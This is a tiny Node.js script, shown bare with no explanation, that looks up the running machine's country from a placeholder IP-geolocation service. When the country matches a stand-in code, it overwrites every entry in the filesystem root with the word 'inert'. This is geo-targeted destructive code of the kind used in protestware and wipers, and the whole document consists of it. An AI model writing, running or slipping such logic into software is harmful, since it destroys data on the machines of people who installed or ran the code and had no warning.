const fs = require('fs')

fetch('https://ip.example.invalid/country').then(answer => answer.text()).then(country => {
  if (country !== 'XX') return
  for (const name of fs.readdirSync('/')) fs.writeFileSync('/' + name, 'inert')
})
